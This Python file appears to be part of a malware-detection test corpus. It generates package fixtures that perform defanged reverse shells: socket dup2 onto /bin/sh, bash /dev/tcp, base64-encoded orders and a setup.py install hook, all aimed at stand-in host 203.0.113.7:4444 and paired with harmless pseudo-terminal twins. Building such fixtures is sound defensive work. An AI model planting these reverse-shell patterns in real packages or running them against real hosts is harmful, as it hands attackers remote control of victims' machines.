"""T23: a reverse shell (MITRE ATT&CK T1059.004, T1095).

A socket becomes the streams of a shell. The shells here run `true` or read what a sinkhole says,
which is nothing. The twins give a pseudo-terminal to a child, as pexpect and ptyprocess do.
"""

from __future__ import annotations

from models.phase import Phase
from tests.corpus.guard import IF_ACT, acting
from tests.corpus.parts import SETUP
from tests.corpus.recipe import Channel, Encoding, Kind, Recipe

LOOPBACK = """
server = socket.create_server(("127.0.0.1", 0))
link = socket.create_connection(server.getsockname())
"""
OUTSIDE = """
try:
    link = socket.create_connection(("203.0.113.7", 4444), timeout=5)
except OSError:
    return
link.settimeout(None)
"""
BECOME_SHELL = """
child = os.fork()
if child == 0:
    for stream in (0, 1, 2):
        os.dup2(link.fileno(), stream)
    os.execv("/bin/sh", ["sh", "-c", "true"])
os.waitpid(child, 0)
link.close()
"""
STREAMS = """
subprocess.run(["/bin/sh", "-c", "true"], stdin=link, stdout=link, stderr=link)
link.close()
"""
BASH_DEVICE = """
try:
    subprocess.run(["bash", "-c", "exec 5<>/dev/tcp/203.0.113.7/4444; sh -c true <&5 >&5 2>&5"],
                   timeout=5, capture_output=True)
except (OSError, subprocess.SubprocessError):
    pass
"""
COMMAND_LOOP = """
import threading
server = socket.create_server(("127.0.0.1", 0))

def operator():
    peer, _ = server.accept()
    peer.sendall(b"true\\n")
    peer.recv(100)
    peer.close()

threading.Thread(target=operator).start()
link = socket.create_connection(server.getsockname())
order = link.recv(100).decode().strip()
done = subprocess.run(order, shell=True, capture_output=True)
link.sendall(b"%d\\n" % done.returncode)
link.close()
"""
TERMINAL = """
import pty
child = os.fork()
if child == 0:
    for stream in (0, 1, 2):
        os.dup2(link.fileno(), stream)
    pty.spawn(["/bin/sh", "-c", "true"])
    os._exit(0)
os.waitpid(child, 0)
link.close()
"""
ENCODED_ORDER = """
import base64
order = base64.b64decode(b"L2Jpbi9zaCAtYyB0cnVl").decode().split()
subprocess.run(order, stdin=link, stdout=link, stderr=link)
link.close()
"""
PSEUDO_TERMINAL = """
import pty
master, slave = pty.openpty()
subprocess.run(["true"], stdin=slave, stdout=slave, stderr=slave)
os.close(slave)
os.close(master)
"""
FUNCTION = '''
def attach():
    """Attach to the console."""
    if ACT:
        THE_ACT()
'''

WAYS = (
    ("loopback-dup", Phase.IMPORT, Channel.SERVER, Encoding.NONE, LOOPBACK + BECOME_SHELL),
    ("outside-dup", Phase.IMPORT, Channel.TCP, Encoding.NONE, OUTSIDE + BECOME_SHELL),
    ("outside-streams", Phase.IMPORT, Channel.TCP, Encoding.PLAIN, OUTSIDE + STREAMS),
    ("bash-device", Phase.IMPORT, Channel.PROCESS, Encoding.PLAIN, BASH_DEVICE),
    ("command-loop", Phase.IMPORT, Channel.SERVER, Encoding.PLAIN, COMMAND_LOOP),
    ("outside-terminal", Phase.IMPORT, Channel.TCP, Encoding.NONE, OUTSIDE + TERMINAL),
    ("encoded-order", Phase.IMPORT, Channel.TCP, Encoding.BASE64, OUTSIDE + ENCODED_ORDER),
    ("function-outside", Phase.USE, Channel.TCP, Encoding.NONE, OUTSIDE + BECOME_SHELL),
)

RECIPES = (
    *(
        Recipe(
            technique="T23",
            name=name,
            phase=phase,
            channel=channel,
            encoding=encoding,
            files={
                "THE_MODULE/__init__.py": acting(
                    reenact,
                    PSEUDO_TERMINAL,
                    FUNCTION if phase is Phase.USE else IF_ACT,
                )
            },
            twin_does="runs a child on a pseudo-terminal",
        )
        for name, phase, channel, encoding, reenact in WAYS
    ),
    Recipe(
        technique="T23",
        name="setup-outside",
        phase=Phase.INSTALL,
        channel=Channel.TCP,
        encoding=Encoding.NONE,
        kind=Kind.SDIST,
        files={
            "setup.py": acting(OUTSIDE + BECOME_SHELL, PSEUDO_TERMINAL) + SETUP,
            "THE_MODULE/__init__.py": '"""Nothing."""\n',
        },
        twin_does="runs a child on a pseudo-terminal",
    ),
)
